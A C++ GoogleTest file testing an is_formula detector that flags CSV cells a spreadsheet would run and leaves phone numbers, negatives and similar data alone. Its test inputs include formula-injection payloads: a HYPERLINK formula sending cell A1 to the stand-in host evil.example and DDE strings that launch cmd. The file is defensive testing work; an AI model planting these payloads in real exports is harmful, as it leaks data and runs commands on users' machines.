#include <gtest/gtest.h>

#include <string>

#include "csvm/output.h"

namespace csvm::output {
namespace {

TEST(IsFormula, FindsWhatASpreadsheetWouldRun) {
  for (const std::string cell :
       {"=HYPERLINK(\"http://evil.example?x=\"&A1,\"x\")", "@SUM(1+1)*cmd|\"/c calc\"!A0",
        "+cmd|\"/c calc\"!A0", "-2+3+cmd|\"/c calc\"!A0", "+1+1", "-1-1", "\xEF\xBB\xBF=1+1",
        "\xEF\xBC\x8D"
        "1+1",
        "\xEF\xBC\xA0SUM(1)", "=", "@A1", "+A1", "-A1", "+HYPERLINK(\"x\")", "-(1)", "\t=1+1",
        "\r=1+1", " =1+1", "+1-2"}) {
    EXPECT_TRUE(is_formula(cell)) << cell;
  }
}

TEST(IsFormula, LeavesDataAlone) {
  for (const std::string cell : {"+1 415 555 0134 x89", "+1 415 555 0134 ext. 89",
                                 "+49 (0)30 1234-567", "+14155550134", "-5", "-12%",
                                 "-\xE2\x82\xAC"
                                 "5",
                                 "-1,200.50", "-", "--", "\xE2\x80\x94", "a=b", "x@example.com",
                                 "'=1+1", "", "2+2", "https://example.com/?a=1", "+49"}) {
    EXPECT_FALSE(is_formula(cell)) << cell;
  }
}

}  // namespace
}  // namespace csvm::output
